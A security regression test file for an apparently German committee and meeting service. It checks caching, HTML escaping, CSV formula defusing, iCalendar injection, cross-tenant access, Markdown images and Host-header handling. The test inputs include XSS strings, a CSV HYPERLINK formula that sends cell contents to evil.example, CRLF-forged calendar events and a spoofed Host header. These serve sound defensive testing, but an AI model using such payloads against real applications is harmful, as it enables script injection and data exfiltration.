/**
 * Findings 5 to 7 of the security test and its low findings: what the service writes out, for whom, and how it
 * is escaped: caching of personal pages, CSV formulae, iCalendar names, single-line fields, other bodies' settings
 * and accounts, images in Markdown, nosniff, and links that never take the request's Host header.
 */
import { spawnSync } from "node:child_process";
import path from "node:path";
import ical from "node-ical";
import { describe, expect, it } from "vitest";
import { ONE_MEMBER, scenario } from "../helpers/scenario";
import { json } from "../helpers/test-app";

const root = path.resolve(import.meta.dirname, "../..");

describe("caching of pages that depend on who asks", () => {
  it("never lets a shared cache keep a page requested with a bearer token", async () => {
    const t = await scenario({ seats: ONE_MEMBER });
    const meeting = await t.createMeeting();
    for (const pagePath of ["/", `/sitzungen/${meeting.id}`, "/suche?q=Sitzung", "/gremien"]) {
      const anonymous = await t.as("public").raw("GET", pagePath);
      expect(anonymous.headers.get("cache-control"), pagePath).toBe("public, max-age=60");
      for (const role of ["member", "secretariat", "admin"] as const) {
        const personal = await t.as(role).raw("GET", pagePath);
        expect(personal.status, `${pagePath} as ${role}`).toBe(200);
        expect(personal.headers.get("cache-control"), `${pagePath} as ${role}`).toBe("private, no-cache");
        expect(personal.headers.get("vary")).toContain("Authorization");
      }
    }
  });

  it("keeps a set-password page, whose address is the credential, out of every cache and every Referer", async () => {
    const t = await scenario({ seats: ONE_MEMBER });
    const account = await t.as("secretariat").post("/api/v1/accounts", { email: "a@example.org", personId: t.people.member.id });
    const page = await t.app.request(new URL(account.setPasswordUrl).pathname);
    expect(page.status).toBe(200);
    expect(page.headers.get("cache-control")).toBe("no-store");
    expect(page.headers.get("referrer-policy")).toBe("no-referrer");
  });
});

describe("the meeting page's agenda", () => {
  it("escapes every title it lists and marks a withdrawn item, as the page's other parts do", async () => {
    const t = await scenario({ seats: ONE_MEMBER });
    const meeting = await t.createMeeting();
    const staff = { token: t.tokens.secretariat };
    const hostile = `Haushalt <script>alert(1)</script> & "Zuschüsse" 'ja' <img src=x onerror=alert(2)>`;
    const added = await json(
      await t.request("POST", `/api/v1/meetings/${meeting.id}/agenda-items`, { ...staff, body: { kind: "information", title: hostile } }),
    );
    const item = added.items.find((i: { title: string }) => i.title === hostile);
    await t.request("POST", `/api/v1/meetings/${meeting.id}/invitation`, { ...staff, body: {} });
    await t.request("DELETE", `/api/v1/agenda-items/${item.id}`, { ...staff, headers: { "if-match": `"${item.version}"` } });
    const page = await (await t.app.request(`/sitzungen/${meeting.id}`)).text();
    const escaped =
      "Haushalt &lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot;Zuschüsse&quot; &#39;ja&#39; &lt;img src=x onerror=alert(2)&gt;";
    expect(page).toContain(`/top/${item.id}">${escaped}</a> <span class="kern-badge kern-badge--warning">`);
    expect(page).not.toContain("<script>");
    expect(page).not.toContain("<img src=x");
  });
});

describe("CSV exports", () => {
  it("defuse a formula with a leading apostrophe, in both dialects, and import back to the same text", async () => {
    const t = await scenario({ seats: ONE_MEMBER });
    const staff = t.as("secretariat");
    const plan = await staff.post("/api/v1/plans", { bodyId: t.body.id, title: "Integrationsplan", adoptedOn: "2019-04-11" });
    const formula = '=HYPERLINK("https://evil.example/?x="&A1;"Klick")';
    const cells = { title: formula, responsible: "+49 7171 123", description: "@SUMME(1;2)", indicators: "＝1+1" };
    const csv = [
      "code,actionField,actionFieldTitle,title,description,responsible,indicators",
      `1.1,1,Sprache,"${cells.title.replaceAll('"', '""')}",${cells.description},${cells.responsible},${cells.indicators}`,
    ].join("\r\n");
    const imported = await t.request("POST", `/api/v1/plans/${plan.id}/measures/import`, {
      token: t.tokens.secretariat,
      body: csv,
      headers: { "content-type": "text/csv" },
    });
    expect(imported.status).toBe(200);
    for (const format of ["", "?format=excel"]) {
      const exported = await (await t.request("GET", `/api/v1/plans/${plan.id}/measures.csv${format}`)).text();
      const row = exported.split("\r\n")[1]!;
      for (const value of Object.values(cells)) {
        expect(row).not.toMatch(new RegExp(`(^|[,;])"?${value.slice(0, 4).replace(/[+(]/g, "\\$&")}`));
        expect(row).toContain(`'${value.slice(0, 4)}`);
      }
      const again = await t.request("POST", `/api/v1/plans/${plan.id}/measures/import`, {
        token: t.tokens.secretariat,
        body: exported,
        headers: { "content-type": "text/csv" },
      });
      expect(await json(again)).toEqual({ created: 0, updated: 0, unchanged: 1 });
    }
    const [measure] = await t.db.prisma.measure.findMany({ where: { planId: plan.id } });
    expect(measure).toMatchObject({ title: formula, responsible: "+49 7171 123", description: "@SUMME(1;2)", indicators: "＝1+1" });
  });
});

describe("iCalendar feeds", () => {
  it("keep one event per meeting when a committee or body name holds a line break", async () => {
    const t = await scenario({ seats: ONE_MEMBER });
    const meeting = await t.createMeeting();
    const member = await t.as("member").post("/api/v1/calendar-feeds");
    const injected = "Integrationsausschuss\r\nEND:VCALENDAR\r\nBEGIN:VEVENT\r\nUID:fremd@evil\r\nSUMMARY:Gefälscht\r\nEND:VEVENT";
    // Data from before names were checked, written straight into the database.
    await t.db.prisma.committee.update({ where: { id: t.committee.id }, data: { name: injected } });
    await t.db.prisma.body.update({ where: { id: t.body.id }, data: { name: injected } });
    const feeds = [
      `/api/v1/committees/${t.committee.id}/calendar.ics`,
      `/api/v1/bodies/${t.body.id}/calendar.ics`,
      new URL(member.url).pathname,
      `/sitzungen/${meeting.id}/termin.ics`,
    ];
    for (const feed of feeds) {
      const response = await t.request("GET", feed);
      expect(response.status, feed).toBe(200);
      const text = await response.text();
      const events = Object.values(await ical.async.parseICS(text)).filter((entry) => entry?.type === "VEVENT");
      expect(
        events.map((event) => (event as { uid: string }).uid),
        feed,
      ).toEqual([`${meeting.id}@gremium`]);
      expect(text.match(/^BEGIN:VCALENDAR/gm), feed).toHaveLength(1);
    }
  });

  it("are refused single-line fields with a line break, with a 400 that names the field", async () => {
    const t = await scenario({ seats: ONE_MEMBER });
    const staff = t.as("secretariat");
    const refusals: [string, string, Record<string, unknown>, string][] = [
      ["POST", "/api/v1/committees", { bodyId: t.body.id, name: "IA\r\nX", shortName: "IA", kind: "advisory_committee" }, "name"],
      ["POST", "/api/v1/people", { bodyId: t.body.id, givenName: "Ayşe\n", familyName: "Demir\u2028X" }, "familyName"],
      ["POST", "/api/v1/meetings", { committeeId: t.committee.id, startsAt: "2026-12-10T18:00:00+01:00", title: "A\rB" }, "title"],
      ["POST", "/api/v1/papers", { bodyId: t.body.id, title: "Vorlage\nBEGIN:VEVENT", type: "proposal" }, "title"],
    ];
    for (const [method, apiPath, body, field] of refusals) {
      const response = await staff.raw(method, apiPath, body);
      expect(response.status, apiPath).toBe(400);
      const problem = await json(response);
      expect(
        problem.errors.map((e: { field: string }) => e.field),
        apiPath,
      ).toContain(field);
      expect(JSON.stringify(problem.errors)).toContain("darf keinen Zeilenumbruch");
    }
    // Text that may run over lines still may.
    const paper = await staff.post("/api/v1/papers", {
      bodyId: t.body.id,
      title: "Vorlage",
      type: "proposal",
      factsAndReasons: "Eins\n\nZwei",
    });
    expect(paper.factsAndReasons).toBe("Eins\n\nZwei");
  });
});

describe("what one body's secretariat learns of another", () => {
  it("reads and changes only its own body's document settings", async () => {
    const t = await scenario({ seats: ONE_MEMBER });
    const other = await t.f.body({ name: "Stadt Nebenort" });
    expect((await t.as("secretariat").raw("GET", `/api/v1/bodies/${other.id}/document-settings`)).status).toBe(403);
    expect((await t.as("secretariat").raw("GET", `/api/v1/bodies/${t.body.id}/document-settings`)).status).toBe(200);
    expect((await t.as("admin").raw("GET", `/api/v1/bodies/${other.id}/document-settings`)).status).toBe(200);
  });

  it("is not told that an address has an account in another body", async () => {
    const t = await scenario({ seats: ONE_MEMBER });
    const other = await t.f.body({ name: "Stadt Nebenort" });
    const stranger = await t.f.person(other.id, { givenName: "Olga", familyName: "Fremd" });
    await t.as("admin").post("/api/v1/accounts", { email: "olga@example.org", personId: stranger.id });
    const refused = await t.as("secretariat").raw("POST", "/api/v1/accounts", { email: "Olga@example.org", personId: t.people.member.id });
    expect(refused.status).toBe(409);
    const text = JSON.stringify(await json(refused));
    expect(text).toContain("steht für ein neues Konto nicht zur Verfügung");
    expect(text).not.toMatch(/Konto der|schon ein Konto|Nebenort|Fremd/);
    // Within its own body, the secretariat may know why.
    await t.as("secretariat").post("/api/v1/accounts", { email: "athina@example.org", personId: t.people.member.id });
    const own = await t.as("secretariat").raw("POST", "/api/v1/accounts", { email: "athina@example.org", personId: t.people.outsider.id });
    expect(JSON.stringify(await json(own))).toContain("ist schon die Anmeldeadresse eines Kontos");
  });
});

describe("Markdown from users", () => {
  it("turns an image from another host into a link, in every …Html field", async () => {
    const t = await scenario({ seats: ONE_MEMBER });
    const paper = await t.as("secretariat").post("/api/v1/papers", {
      bodyId: t.body.id,
      title: "Vorlage mit Bildern",
      type: "proposal",
      factsAndReasons: "![Zähler](https://tracker.example/pixel.gif) und ![Plan](/static/plan.png)",
    });
    expect(paper.factsAndReasonsHtml).not.toContain('<img src="https://');
    expect(paper.factsAndReasonsHtml).toContain('<a href="https://tracker.example/pixel.gif">Zähler</a>');
    expect(paper.factsAndReasonsHtml).toContain('<img src="/static/plan.png" alt="Plan">');
    const linked = await t.as("secretariat").post("/api/v1/papers", {
      bodyId: t.body.id,
      title: "Bild in einem Link",
      type: "proposal",
      factsAndReasons: "[![Plakat](https://tracker.example/p.gif)](https://remsfeld.example/fest)",
    });
    expect(linked.factsAndReasonsHtml).toBe('<p><a href="https://remsfeld.example/fest">Plakat</a></p>\n');
  });
});

describe("every response", () => {
  it("says nosniff: pages, JSON, problems, PDFs, feeds, OParl and static files", async () => {
    const t = await scenario({ seats: ONE_MEMBER });
    const meeting = await t.createMeeting();
    for (const address of [
      "/",
      "/api/v1/committees",
      "/api/v1/nichts",
      `/api/v1/meetings/${meeting.id}/invitation.pdf`,
      `/api/v1/committees/${t.committee.id}/calendar.ics`,
      "/oparl/v1.1/system",
      "/health",
      "/favicon.ico",
    ]) {
      expect((await t.app.request(address)).headers.get("x-content-type-options"), address).toBe("nosniff");
    }
  });
});

describe("links in what the service writes", () => {
  it("take PUBLIC_BASE_URL, never the request's Host, also in a meeting's own calendar entry", async () => {
    const t = await scenario({ seats: ONE_MEMBER, publicBaseUrl: "https://gremium.remsfeld.de" });
    const meeting = await t.createMeeting();
    const response = await t.app.request(`http://evil.example/sitzungen/${meeting.id}/termin.ics`, { headers: { host: "evil.example" } });
    const entry = (await response.text()).replace(/\r\n[ \t]/g, ""); // unfolded (RFC 5545, 3.1)
    expect(entry).toContain(`https://gremium.remsfeld.de/sitzungen/${meeting.id}`);
    expect(entry).not.toContain("evil.example");
  });

  it("refuses to start the production server without PUBLIC_BASE_URL", () => {
    const result = spawnSync(process.execPath, ["--import", "tsx", "src/entry/node.ts"], {
      cwd: root,
      env: { ...process.env, PUBLIC_BASE_URL: "", DATABASE_URL: "file:/nonexistent/never-created.db", PORT: "3999" },
      encoding: "utf8",
      timeout: 30_000,
    });
    expect(result.status).toBe(1);
    expect(result.stderr).toContain("PUBLIC_BASE_URL: required");
  });
});
